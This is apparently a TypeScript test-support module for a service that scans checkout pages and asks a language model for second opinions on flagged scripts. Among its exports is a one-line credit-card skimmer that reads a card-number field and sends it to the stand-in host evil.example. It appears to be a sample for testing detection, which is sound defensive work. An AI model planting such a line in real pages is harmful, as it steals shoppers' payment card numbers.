// What the tests of asking share: a database, a model's endpoint on loopback with the real client, and scans that keep contents.
import { createHash, randomUUID } from 'node:crypto'
import { languageModel } from '#adapters/language-model.ts'
import { languageModelOf } from '#config/language-model.ts'
import { noteBlobs } from '#features/contents/index.ts'
import { gatherFacts } from '#features/second-opinions/gather-facts.ts'
import { askAboutScan, askModel, type OpinionContext, type OpinionJob } from '#features/second-opinions/index.ts'
import { owner, type TestContext, testContext } from '../../support/context.ts'
import { type ModelServer, modelServer } from '../../support/model-server.ts'

export const skimmer =
  "document.querySelector('#cc-number').addEventListener('change',function(e){fetch('https://evil.example/c?'+btoa(e.target.value))})"

export interface Asking {
  test: TestContext
  server: ModelServer
  context: OpinionContext
  /** In the order queued, with their delay. */
  queued: { job: OpinionJob; afterSeconds: number }[]
  close(): Promise<void>
}

export async function openAsking(): Promise<Asking> {
  const test = await testContext()
  const server = await modelServer()
  const queued: Asking['queued'] = []
  const set = { AI_PROVIDER: 'openai-compatible', AI_MODEL: 'judge-1', AI_BASE_URL: `${server.origin}/v1`, AI_JSON_SCHEMA: 'on' } as const
  const model = languageModelOf({ ...set, AI_TIMEOUT_S: 20 })
  if (model === null) throw new Error('no model is set up')
  return {
    test,
    server,
    queued,
    context: {
      db: test.database.db,
      store: test.context.store,
      queue: { enqueue: async (_db, job, afterSeconds) => void queued.push({ job, afterSeconds }) },
      model: languageModel(model),
      budget: { requestsPerDay: 1_000, tokensPerDay: 100_000_000 },
      // In this thread, since to start one each time takes a second; `question.test.ts` holds that both give the same.
      gather: async (material) => ({ facts: gatherFacts(material), fault: null }),
    },
    async close() {
      await server.close()
      await test.close()
    },
  }
}

/** A recorded scan of the account that kept these codes, each as a script s1, s2 and so on; with their SHA-256. */
export async function scanOf(
  { test }: Asking,
  codes: readonly string[],
  accountId = owner.accountId,
): Promise<{ scanId: string; sha256s: string[] }> {
  const { db } = test.database
  const scanId = randomUUID()
  const sha256s = codes.map((code) => createHash('sha256').update(code).digest('hex'))
  await db
    .insertInto('scans')
    .values({ id: scanId, account_id: accountId, url: 'https://shop.example/checkout', profile: 'desktop' })
    .execute()
  await noteBlobs(
    db,
    sha256s.map((sha256, index) => ({ sha256, sizeBytes: codes[index]?.length ?? 0 })),
  )
  for (const [index, sha256] of sha256s.entries()) {
    await test.context.store.put([{ sha256, bytes: new TextEncoder().encode(codes[index]) }])
    await db.insertInto('artifacts').values({ account_id: accountId, scan_id: scanId, kind: 'body', sha256 }).execute()
    await db
      .insertInto('scan_scripts')
      .values({ account_id: accountId, scan_id: scanId, script_id: `s${index + 1}`, received_sha256: sha256, text_sha256: sha256 })
      .execute()
  }
  return { scanId, sha256s }
}

/** Asks about all of these contents, as after a judgement that flags them; returns how many questions were queued. */
export function flag(
  { context }: Asking,
  scanId: string,
  contents: readonly string[],
  changes: readonly { before: string; after: string }[] = [],
) {
  return context.db.transaction().execute((trx) => askAboutScan(trx, context, scanId, { contents, changes }))
}

/** Works off what is queued, each by a job of its own. */
export async function workOff({ context, queued }: Asking): Promise<void> {
  for (const { job } of queued.splice(0)) await askModel(context, { ...job, jobId: randomUUID() }, new AbortController().signal)
}

/** The opinion on a content, as stored. */
export function stored({ context }: Asking, sha256: string) {
  return context.db.selectFrom('second_opinions').selectAll().where('sha256', '=', sha256).executeTakeFirstOrThrow()
}
